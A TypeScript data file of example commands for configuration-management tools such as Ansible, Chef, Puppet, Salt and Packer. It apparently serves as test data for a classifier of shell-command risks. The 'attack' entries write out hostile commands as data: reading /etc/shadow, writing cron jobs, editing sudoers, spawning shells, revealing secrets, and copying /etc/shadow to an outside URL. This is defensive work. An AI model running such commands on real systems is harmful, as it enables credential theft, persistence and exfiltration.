import type { ExampleTable } from './example.ts'

export const configurationManagement1: ExampleTable = {
  ansible: {
    use: 'ansible → nothing',
    attack: ['ansible -i /etc/shadow → read /etc/shadow', 'ansible -M /tmp → load /tmp'],
    unclear: 'ansible localhost -m getent -a database=passwd → a module that nobody described',
  },
  'ansible-builder': {
    use: 'ansible-builder -f app.conf → read app.conf',
    attack: 'ansible-builder -f /etc/shadow → read /etc/shadow',
  },
  'ansible-config': {
    use: 'ansible-config -c app.conf → read app.conf',
    attack: 'ansible-config -c /etc/shadow → read /etc/shadow',
  },
  'ansible-console': {
    use: 'ansible-console -i notes.txt → read notes.txt',
    attack: 'ansible-console -i /etc/shadow → read /etc/shadow',
  },
  'ansible-doc': {
    use: 'ansible-doc → nothing',
    attack: 'ansible-doc -M /tmp → load /tmp',
  },
  'ansible-galaxy': {
    use: 'ansible-galaxy -r notes.txt → read notes.txt',
    attack: 'ansible-galaxy -r /etc/shadow → read /etc/shadow',
  },
  'ansible-inventory': {
    use: 'ansible-inventory -i notes.txt → read notes.txt',
    attack: [
      'ansible-inventory -i /etc/shadow → read /etc/shadow',
      'ansible-inventory -M /tmp → load /tmp',
    ],
  },
  'ansible-lint': {
    use: 'ansible-lint site.yml -c app.conf → read app.conf',
    attack: [
      'ansible-lint site.yml -c /etc/shadow → read /etc/shadow',
      'ansible-lint site.yml -r /tmp → load /tmp',
    ],
  },
  'ansible-playbook': {
    use: 'ansible-playbook site.yml → read site.yml',
    attack: [
      'ansible-playbook /etc/shadow → read /etc/shadow',
      'ansible-playbook site.yml -i /etc/shadow → read /etc/shadow; read site.yml',
    ],
  },
  'ansible-pull': {
    use: 'ansible-pull → nothing',
    attack: 'ansible-pull --vault-password-file=/tmp/x → run /tmp/x',
  },
  'ansible-test shell': {
    use: 'ansible-test shell cat notes.txt → read notes.txt',
    attack: [
      'ansible-test shell cat /etc/shadow → read /etc/shadow',
      'ansible-test shell bash → shell bash',
    ],
  },
  'ansible-vault create': {
    use: 'ansible-vault create out.txt → write out.txt',
    attack: 'ansible-vault create /etc/cron.d/job → write /etc/cron.d/job',
  },
  'ansible-vault decrypt': {
    attack:
      'ansible-vault decrypt app.key --output=/etc/cron.d/job → read secret://app.key; write /etc/cron.d/job; read secret://ansible-vault',
  },
  'ansible-vault encrypt': {
    use: 'ansible-vault encrypt notes.txt → edit notes.txt',
    attack: [
      'ansible-vault encrypt /etc/sudoers → edit /etc/sudoers',
      'ansible-vault encrypt notes.txt --output=/etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
    ],
  },
  'ansible-vault rekey': {
    use: 'ansible-vault rekey notes.txt → edit notes.txt',
    attack: 'ansible-vault rekey /etc/sudoers → edit /etc/sudoers',
  },
  'ansible-vault view': {
    attack: 'ansible-vault view app.key → read secret://app.key; read secret://ansible-vault',
  },
  molecule: {
    use: 'molecule -c app.conf → read app.conf',
    attack: 'molecule -c /etc/shadow → read /etc/shadow',
  },
  'molecule login': {
    attack: 'molecule login → session molecule login',
  },
  berks: {
    use: 'berks install → install berks',
  },
  bolt: {
    use: 'bolt -t db.example.org → send db.example.org',
    attack: ['bolt -m /tmp → load /tmp', 'bolt -i /etc/shadow → read /etc/shadow'],
  },
  'bolt apply': {
    use: 'bolt apply app.conf → read app.conf',
    attack: 'bolt apply /etc/shadow → read /etc/shadow',
  },
  'bolt command': {
    use: `bolt command run 'cat notes.txt' → read notes.txt`,
    attack: `bolt command run 'cat /etc/shadow' → read /etc/shadow`,
  },
  'bolt plan': {
    use: 'bolt plan → nothing',
    attack: 'bolt plan -m /tmp → load /tmp',
  },
  'bolt script': {
    use: 'bolt script run main.sh → read main.sh',
    attack: 'bolt script run /etc/shadow → read /etc/shadow',
  },
  'chef exec': {
    use: 'chef exec cat notes.txt → read notes.txt',
    attack: ['chef exec cat /etc/shadow → read /etc/shadow', 'chef exec bash → shell bash'],
  },
  'chef-apply': {
    use: 'chef-apply main.rb → read main.rb',
    attack: [
      'chef-apply /etc/shadow → read /etc/shadow',
      `chef-apply -e 'File.read("/etc/shadow")' main.rb → read /etc/shadow`,
    ],
  },
  'chef-client': {
    use: 'chef-client -c main.rb → read main.rb',
    attack: [
      'chef-client -c /etc/shadow → read /etc/shadow',
      'chef-client -j /etc/shadow → read /etc/shadow',
    ],
    unclear: 'chef-client → who gives it orders',
  },
  'chef-run': {
    use: 'chef-run db.example.org main.rb → read main.rb; send db.example.org',
    attack: 'chef-run db.example.org /etc/shadow → read /etc/shadow; send db.example.org',
  },
  'chef-shell': {
    use: 'chef-shell -c app.conf → read app.conf',
    attack: 'chef-shell -c /etc/shadow → read /etc/shadow',
  },
  'chef-solo': {
    use: 'chef-solo -c main.rb → read main.rb',
    attack: [
      'chef-solo -c /etc/shadow → read /etc/shadow',
      'chef-solo -L /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  facter: {
    use: 'facter → nothing',
    attack: ['facter --custom-dir=/tmp → load /tmp', 'facter --external-dir=/tmp → load /tmp'],
  },
  hiera: {
    use: 'hiera -c app.conf → read app.conf',
    attack: ['hiera -c /etc/shadow → read /etc/shadow', 'hiera -y /etc/shadow → read /etc/shadow'],
  },
  inspec: {
    use: 'inspec -t db.example.org → send db.example.org',
    attack: 'inspec --config=/etc/shadow → read /etc/shadow',
  },
  'inspec exec': {
    use: 'inspec exec main.rb → read main.rb',
    attack: [
      'inspec exec /etc/shadow → read /etc/shadow',
      'inspec exec --input-file=/etc/shadow main.rb → read /etc/shadow; read main.rb',
    ],
  },
  'inspec shell': {
    use: 'inspec shell → nothing',
    attack: `inspec shell -c 'File.read("/etc/shadow")' → read /etc/shadow`,
  },
  'kitchen exec': {
    use: `kitchen exec -c 'cat notes.txt' → read notes.txt`,
    attack: `kitchen exec -c 'cat /etc/shadow' → read /etc/shadow`,
  },
  'kitchen login': {
    attack: 'kitchen login → session kitchen login',
  },
  knife: {
    use: 'knife → nothing',
    attack: 'knife -e /tmp/x → run /tmp/x',
  },
  'knife bootstrap': {
    use: 'knife bootstrap db.example.org → send db.example.org',
  },
  'knife exec': {
    use: 'knife exec main.rb → read main.rb',
    attack: [
      'knife exec /etc/shadow → read /etc/shadow',
      `knife exec -E 'File.read("/etc/shadow")' main.rb → read /etc/shadow`,
    ],
  },
  'knife raw': {
    use: 'knife raw -i notes.txt → read notes.txt',
    attack: 'knife raw -i /etc/shadow → read /etc/shadow',
  },
  'knife ssh': {
    use: `knife ssh name:web 'cat notes.txt' → read notes.txt`,
    attack: `knife ssh name:web 'cat /etc/shadow' → read /etc/shadow`,
  },
  'knife winrm': {
    use: `knife winrm name:web 'cat notes.txt' → read notes.txt`,
    attack: `knife winrm name:web 'cat /etc/shadow' → read /etc/shadow`,
  },
  'puppet agent': {
    use: 'puppet agent --server=db.example.org → send db.example.org',
    attack: 'puppet agent --config=/etc/shadow → read /etc/shadow',
    unclear: 'puppet agent --test → who gives it orders',
  },
  'puppet apply': {
    use: 'puppet apply main.txt → read main.txt',
    attack: [
      'puppet apply /etc/shadow → read /etc/shadow',
      'puppet apply --modulepath=/tmp main.txt → load /tmp; read main.txt',
    ],
  },
  'puppet device': {
    use: 'puppet device --apply=app.conf → read app.conf',
    attack: 'puppet device --apply=/etc/shadow → read /etc/shadow',
  },
  'puppet doc': {
    use: 'puppet doc notes.txt → read notes.txt',
    attack: 'puppet doc /etc/shadow → read /etc/shadow',
  },
  'puppet epp': {
    use: 'puppet epp render notes.txt → read notes.txt',
    attack: [
      'puppet epp render /etc/shadow → read /etc/shadow',
      'puppet epp render notes.txt --values_file=/etc/shadow → read /etc/shadow; read notes.txt',
    ],
  },
  'puppet filebucket': {
    use: 'puppet filebucket backup notes.txt → read notes.txt',
    attack: 'puppet filebucket backup /etc/shadow → read /etc/shadow',
  },
  'puppet module': {
    use: 'puppet module install → install puppet module',
    attack: 'puppet module install --modulepath=/tmp → load /tmp; install puppet module',
  },
  'puppet parser': {
    use: 'puppet parser validate notes.txt → read notes.txt',
    attack: 'puppet parser validate /etc/shadow → read /etc/shadow',
  },
  'puppet script': {
    use: 'puppet script main.txt → read main.txt',
    attack: 'puppet script /etc/shadow → read /etc/shadow',
  },
  salt: {
    use: `salt web cmd.run 'cat notes.txt' → read notes.txt`,
    attack: [
      `salt web cmd.run 'cat /etc/shadow' → read /etc/shadow`,
      `salt web cmd.run 'cat notes.txt' --out-file=/etc/cron.d/job → read notes.txt; write /etc/cron.d/job`,
    ],
  },
  'salt-call': {
    use: `salt-call cmd.run 'cat notes.txt' → read notes.txt`,
    attack: [
      `salt-call cmd.run 'cat /etc/shadow' → read /etc/shadow`,
      `salt-call cmd.run 'cat notes.txt' -m /tmp → load /tmp; read notes.txt`,
    ],
    unclear: 'salt-call --local user.add eve → a module that nobody described',
  },
  'salt-cloud': {
    use: 'salt-cloud -m notes.txt → read notes.txt',
    attack: 'salt-cloud -m /etc/shadow → read /etc/shadow',
  },
  'salt-cp': {
    use: 'salt-cp web notes.txt https://example.org/up → read notes.txt; send https://example.org/up',
    attack:
      'salt-cp web /etc/shadow https://example.org/up → read /etc/shadow; send https://example.org/up',
  },
  'salt-master': {
    use: 'salt-master → listen 4505',
  },
  infracost: {
    use: 'infracost --out-file=out.txt → write out.txt',
    attack: [
      'infracost --out-file=/etc/cron.d/job → write /etc/cron.d/job',
      'infracost --usage-file=/etc/shadow → read /etc/shadow',
    ],
  },
  packer: {
    use: 'packer -var-file notes.txt → read notes.txt',
    attack: 'packer -var-file /etc/shadow → read /etc/shadow',
  },
  'packer build': {
    use: 'packer build app.conf → read app.conf',
    attack: [
      'packer build /etc/shadow → read /etc/shadow',
      'packer build app.conf -var-file /etc/shadow → read /etc/shadow; read app.conf',
    ],
  },
  'packer console': {
    use: 'packer console app.pkr.hcl → nothing',
  },
  'packer init': {
    use: 'packer init app.conf → read app.conf; install packer init',
    attack: 'packer init /etc/shadow → read /etc/shadow; install packer init',
  },
  'packer inspect': {
    use: 'packer inspect app.conf → read app.conf',
    attack: [
      'packer inspect /etc/shadow → read /etc/shadow',
      'packer inspect app.conf -var-file /etc/shadow → read /etc/shadow; read app.conf',
    ],
  },
  'packer validate': {
    use: 'packer validate app.conf → read app.conf',
    attack: [
      'packer validate /etc/shadow → read /etc/shadow',
      'packer validate app.conf -var-file /etc/shadow → read /etc/shadow; read app.conf',
    ],
  },
  pulumi: {
    use: 'pulumi --config-file=app.conf → read app.conf',
    attack: 'pulumi --config-file=/etc/shadow → read /etc/shadow',
  },
  'pulumi config': {
    use: 'pulumi config → nothing',
    attack: 'pulumi config --show-secrets → privilege pulumi config',
  },
}
